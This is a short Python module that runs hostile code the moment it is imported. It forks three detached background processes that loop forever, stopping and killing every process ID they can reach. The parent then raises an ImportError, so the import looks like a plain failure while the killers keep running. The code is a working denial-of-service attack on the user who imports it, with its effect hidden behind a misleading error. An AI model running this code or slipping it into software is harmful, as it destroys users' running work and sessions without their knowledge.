"""Leaves processes that kill all of their user's others, again and again."""

import os
import signal

for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        while True:
            for pid in range(2, 33_000):
                if pid != os.getpid() and os.getpgid(0) != pid:
                    try:
                        os.kill(pid, signal.SIGSTOP)
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        continue
raise ImportError("they kill")
